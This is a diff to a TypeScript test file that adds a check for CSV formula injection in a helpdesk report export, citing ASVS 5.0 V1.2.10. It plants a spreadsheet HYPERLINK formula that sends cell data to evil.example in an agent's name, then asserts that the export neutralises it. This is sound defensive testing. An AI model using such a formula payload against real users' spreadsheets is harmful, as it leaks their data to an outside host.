@@ -43,4 +43,18 @@ describe("report.*", () => {
     await expect(callerFor(w.customer).report.summary({ from: at("2026-01-01T00:00:00"), to: at("2026-01-02T00:00:00") })).rejects.toMatchObject({ code: "FORBIDDEN" });
     await expect(callerFor(w.agent).report.summary({ from: at("2026-01-02T00:00:00"), to: at("2026-01-01T00:00:00") })).rejects.toMatchObject({ code: "BAD_REQUEST" });
   });
+
+  it("ASVS 5.0 V1.2.10: an agent named like a formula is exported as text, not as a formula", async () => {
+    const w = await staffWorld();
+    const closed = await statusByKey("closed");
+    const id = await openTicket(w.customer);
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    await db().user.update({ where: { id: w.agentUser.id }, data: { name: evil } });
+    await db().ticket.update({ where: { id }, data: { createdAt: at("2026-02-01T10:00:00"), assigneeId: w.agentUser.id, statusId: closed.id, closedAt: at("2026-02-01T12:00:00"), rating: 4, ratedAt: at("2026-02-01T13:00:00") } });
+    const { csv } = await callerFor(w.agent).report.csv({ from: at("2026-02-01T00:00:00"), to: at("2026-02-02T00:00:00") });
+    const row = csv.split("\r\n").find((l) => l.startsWith("agent_rating,"))!;
+    expect(row).toBe(`agent_rating,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",4,1,`);
+    // no cell of the file starts a formula
+    for (const line of csv.trim().split("\r\n")) for (const cell of line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+@\t\r]/);
+  });
 });
